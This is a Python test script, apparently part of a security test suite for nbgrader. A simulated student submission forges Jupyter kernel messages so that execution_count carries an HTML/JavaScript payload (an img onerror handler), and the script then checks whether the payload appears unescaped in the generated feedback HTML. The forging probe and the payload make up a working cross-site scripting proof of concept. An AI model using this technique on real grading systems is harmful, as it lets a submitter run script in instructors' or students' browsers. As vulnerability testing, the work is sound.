"""a03: the kernel sends an iopub message whose content carries `execution_count` = HTML. nbclient copies it into
cell['execution_count'] unchecked; nbconvert's templates print it unescaped in In[...]/Out[...]."""
import sys, glob; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from lib import *
PAYLOAD = '1]<img src=x onerror="document.title=\'PWNED-EXECCOUNT\'"><b id=pwn>X</b>['
PROBE = r'''
_k = get_ipython().kernel
_p = _k.get_parent('shell') if 'shell' in str(getattr(_k.get_parent, '__code__', None) and _k.get_parent.__code__.co_varnames) else _k.get_parent()
for _t in ('execute_input',):
    _k.session.send(_k.iopub_socket, _t, {'code': 'x', 'execution_count': PAYLOAD}, parent=_p)
_k.session.send(_k.iopub_socket, 'execute_result', {'data': {'text/plain': 'r'}, 'metadata': {}, 'execution_count': PAYLOAD}, parent=_p)
import time; time.sleep(0.5)
'''.replace("PAYLOAD", repr(PAYLOAD))
root = make_course("a03")
hand_in(root, "aaron", honest())
hand_in(root, "mallory", hostile(PROBE))
hand_in(root, "zoe", honest())
grade(root)
summary(root)
nb = json.load(open(f"{root}/autograded/mallory/{A}/{A}.ipynb"))
for c in nb["cells"]:
    if c.get("cell_type") == "code" and c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "training_memory":
        print("autograded execution_count:", repr(c.get("execution_count")))
        print("outputs:", json.dumps(c.get("outputs"))[:800])
for f in glob.glob(f"{root}/feedback/mallory/{A}/*.html"):
    html = open(f).read()
    print(f, "raw payload in feedback:", "<img src=x onerror" in html, html.count("PWNED"))
    i = html.find("PWNED"); print(html[max(0, i-300):i+100])
grep_canary(root)
